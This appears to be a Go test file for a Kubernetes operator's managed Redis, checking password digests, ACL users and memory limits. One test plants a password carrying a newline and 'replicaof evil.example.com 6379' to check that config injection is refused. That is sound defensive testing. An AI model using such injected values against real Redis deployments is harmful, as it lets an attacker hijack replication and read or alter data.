package controllers

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"strconv"
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	clocktesting "k8s.io/utils/clock/testing"
	"k8s.io/utils/ptr"

	authv1alpha1 "github.com/hiringo/auth-operator/api/v1alpha1"
	"github.com/hiringo/auth-operator/controllers/managedredis"
	"github.com/hiringo/auth-operator/internal/redisconf"
)

// TestManagedRedis_PasswordIsValidatedAndNeverDigested: the pod templates carry digests of
// the Secret's UID and resourceVersion, not of the password or redis.conf; a hand-edited
// password that would inject a directive into redis.conf is refused with a condition and an
// event that do not show it, and nothing is written.
func TestManagedRedis_PasswordIsValidatedAndNeverDigested(t *testing.T) {
	ns := newNamespace(t)
	r := newDirectReconciler(t, clocktesting.NewFakePassiveClock(t0), nil)
	createAuthService(t, ns, "auth", nil)
	reconcileOnce(t, r, ns, "auth")
	secret := get(t, ns, "auth-redis", &corev1.Secret{})
	password := string(secret.Data[managedredis.PasswordKey])
	sts := get(t, ns, "auth-redis", &appsv1.StatefulSet{})
	for name, got := range map[string]string{
		"Redis config":         sts.Spec.Template.Annotations[managedredis.ConfigChecksumAnnotation],
		"auth-server password": get(t, ns, "auth-authserver", &appsv1.Deployment{}).Spec.Template.Annotations[RedisPasswordChecksumAnnotation],
	} {
		for what, digest := range map[string][]byte{"password": []byte(password), "redis.conf": secret.Data[managedredis.ConfigKey]} {
			sum := sha256.Sum256(digest)
			if got == hex.EncodeToString(sum[:]) {
				t.Errorf("the %s annotation is the SHA-256 of the %s", name, what)
			}
		}
		if got != secretVersion(secret) {
			t.Errorf("the %s annotation = %q, want the digest of the Secret's UID and resourceVersion", name, got)
		}
	}

	injected := password + "\nreplicaof evil.example.com 6379"
	update(t, secret, func(s *corev1.Secret) { s.Data[managedredis.PasswordKey] = []byte(injected) })
	if _, err := r.Reconcile(context.Background(), request(ns, "auth")); err != nil {
		t.Fatalf("Reconcile: %v", err)
	}
	as := get(t, ns, "auth", &authv1alpha1.AuthService{})
	c := condition(as, authv1alpha1.RedisReadyCondition)
	if c.Status != metav1.ConditionFalse || c.Reason != authv1alpha1.ReasonRedisPasswordInvalid || !strings.Contains(c.Message, "Secret auth-redis: key \"password\"") {
		t.Errorf("RedisReady = %s %s %q", c.Status, c.Reason, c.Message)
	}
	if strings.Contains(c.Message, password[:16]) || strings.Contains(c.Message, "evil") {
		t.Errorf("the condition shows the password: %q", c.Message)
	}
	after := get(t, ns, "auth-redis", &corev1.Secret{})
	if conf := string(after.Data[managedredis.ConfigKey]); strings.Contains(conf, "replicaof") || !strings.Contains(conf, "requirepass "+password+"\n") {
		t.Errorf("redis.conf was rewritten: %q", conf)
	}
	if got := get(t, ns, "auth-redis", &appsv1.StatefulSet{}); got.Generation != sts.Generation {
		t.Error("the Redis StatefulSet changed although the password was refused")
	}
	waitEvent(t, ns, "auth", corev1.EventTypeWarning, authv1alpha1.ReasonRedisPasswordInvalid, "auth-redis")
}

// TestManagedRedis_TheAuthServersLogInAsTheirACLUserOnceRedisDefinesIt: the managed Redis
// Secret holds a password for the administrator, the auth servers and the Sentinels, and
// redis.conf defines the auth servers' user bounded to the AuthService's key prefix, with
// hashes, never their passwords. The auth servers log in as the administrator until the
// Redis pod runs a template with the users (an upgrade), then as their user, mounting its
// password only.
func TestManagedRedis_TheAuthServersLogInAsTheirACLUserOnceRedisDefinesIt(t *testing.T) {
	ns := newNamespace(t)
	r := newDirectReconciler(t, clocktesting.NewFakePassiveClock(t0), nil)
	createAuthService(t, ns, "auth", nil)
	reconcileOnce(t, r, ns, "auth")
	secret := get(t, ns, "auth-redis", &corev1.Secret{})
	creds := managedredis.CredentialsOf(secret)
	if creds.Admin == "" || creds.AuthServer == "" || creds.Sentinel == "" || creds.AuthServer == creds.Admin || creds.Sentinel == creds.Admin {
		t.Fatalf("the Secret's passwords are not three distinct ones (keys %v)", keysOf(secret.Data))
	}
	prefix := get(t, ns, "auth", &authv1alpha1.AuthService{}).Status.RedisKeyPrefix
	conf := string(secret.Data[managedredis.ConfigKey])
	if !strings.Contains(conf, "\nuser authserver on #") || !strings.Contains(conf, " ~"+prefix+"* ") || !strings.Contains(conf, " &"+prefix+"* ") ||
		strings.Contains(conf, creds.AuthServer) || strings.Contains(conf, "user sentinel") {
		t.Errorf("redis.conf does not define the auth servers' user on %s* alone (by hash), or defines a Sentinels' user without Sentinels:\n%s", prefix, strings.ReplaceAll(conf, creds.Admin, "<admin>"))
	}
	sts := get(t, ns, "auth-redis", &appsv1.StatefulSet{})
	if sts.Spec.Template.Annotations[managedredis.ACLAnnotation] != "true" {
		t.Errorf("the Redis pod template does not say it defines the ACL users: %v", sts.Spec.Template.Annotations)
	}
	login := func(name string) (user, key string) {
		d := get(t, ns, name, &appsv1.Deployment{})
		for _, v := range d.Spec.Template.Spec.Volumes {
			if v.Name == "redis-password" {
				key = v.Secret.Items[0].Key
			}
		}
		return envMap(d.Spec.Template.Spec.Containers[0])["AUTHSERVER_REDIS_USERNAME"], key
	}
	for _, name := range []string{"auth-authserver", "auth-issuer"} {
		if user, key := login(name); user != "" || key != managedredis.PasswordKey {
			t.Errorf("%s before the Redis pod runs the users: user %q, password key %q; want the administrator", name, user, key)
		}
	}
	setStatefulSetAvailable(t, ns, "auth-redis")
	reconcileOnce(t, r, ns, "auth")
	for _, name := range []string{"auth-authserver", "auth-issuer"} {
		if user, key := login(name); user != "authserver" || key != managedredis.AuthServerPasswordKey {
			t.Errorf("%s with the Redis pod running the users: user %q, password key %q; want authserver", name, user, key)
		}
	}
}

// keysOf lists a Secret's data keys.
func keysOf(data map[string][]byte) []string {
	keys := make([]string, 0, len(data))
	for k := range data {
		keys = append(keys, k)
	}
	return keys
}

// TestManagedRedis_MaxMemoryFollowsTheMemoryLimit: redis.conf caps the data at a share of
// the container's memory limit (internal/redisconf's test shows a full Redis then refuses a
// logout with 503 and stays up).
func TestManagedRedis_MaxMemoryFollowsTheMemoryLimit(t *testing.T) {
	ns := newNamespace(t)
	r := newDirectReconciler(t, clocktesting.NewFakePassiveClock(t0), nil)
	createAuthService(t, ns, "auth", func(as *authv1alpha1.AuthService) {
		as.Spec.Redis.Managed = &authv1alpha1.ManagedRedisSpec{Resources: corev1.ResourceRequirements{
			Limits: corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("64Mi")},
		}}
	})
	reconcileOnce(t, r, ns, "auth")
	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[managedredis.ConfigKey])
	if !strings.Contains(conf, "\nmaxmemory 40265280\n") || !strings.Contains(conf, "maxmemory-policy noeviction\n") {
		t.Errorf("redis.conf = %q, want maxmemory 60%% of 64Mi and noeviction", conf)
	}
}

// TestManagedRedis_DefaultMemoryLimit: a managed Redis whose spec sets no resources gets a
// memory limit, so redis.conf caps its data with maxmemory, and a request the size of the
// limit (managedredis's TestResources_DefaultMemoryLimitAndBoundedInitAndSentinels has the
// other cases).
func TestManagedRedis_DefaultMemoryLimit(t *testing.T) {
	ns := newNamespace(t)
	r := newDirectReconciler(t, clocktesting.NewFakePassiveClock(t0), nil)
	createAuthService(t, ns, "auth", nil)
	reconcileOnce(t, r, ns, "auth")
	def := redisconf.MemoryFor(100000) // the default spec.redis.managed.sessionCapacity
	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[managedredis.ConfigKey])
	if line := "\nmaxmemory " + strconv.FormatInt(redisconf.MaxMemory(&def), 10) + "\n"; !strings.Contains(conf, line) {
		t.Errorf("redis.conf = %q, want %q: 60%% of the default limit", conf, line)
	}
	res := get(t, ns, "auth-redis", &appsv1.StatefulSet{}).Spec.Template.Spec.Containers[0].Resources
	if res.Limits.Memory().Cmp(def) != 0 || res.Requests.Memory().Cmp(def) != 0 {
		t.Errorf("Redis container resources = %v, want the default %s as limit and request", res, def.String())
	}

}

// TestManagedRedis_DefaultMemoryHoldsItsSessionCapacity: without a memory limit the
// Redis container gets one sized for spec.redis.managed.sessionCapacity
// (redisconf.MemoryFor, whose per-session bytes authserver/blacklist measures on a real
// Redis), and redis.conf's maxmemory follows it.
func TestManagedRedis_DefaultMemoryHoldsItsSessionCapacity(t *testing.T) {
	ns := newNamespace(t)
	r := newDirectReconciler(t, clocktesting.NewFakePassiveClock(t0), nil)
	createAuthService(t, ns, "auth", func(as *authv1alpha1.AuthService) {
		as.Spec.Redis.Managed = &authv1alpha1.ManagedRedisSpec{SessionCapacity: ptr.To[int32](200000)}
	})
	reconcileOnce(t, r, ns, "auth")
	want := redisconf.MemoryFor(200000)
	c := get(t, ns, "auth-redis", &appsv1.StatefulSet{}).Spec.Template.Spec.Containers[0]
	if c.Resources.Limits.Memory().Cmp(want) != 0 || c.Resources.Requests.Memory().Cmp(want) != 0 {
		t.Errorf("Redis container resources = %+v, want memory %s for 200000 sessions", c.Resources, want.String())
	}
	conf := string(get(t, ns, "auth-redis", &corev1.Secret{}).Data[managedredis.ConfigKey])
	if line := "\nmaxmemory " + strconv.FormatInt(redisconf.MaxMemory(&want), 10) + "\n"; !strings.Contains(conf, line) {
		t.Errorf("redis.conf = %q, want %q", conf, line)
	}
}
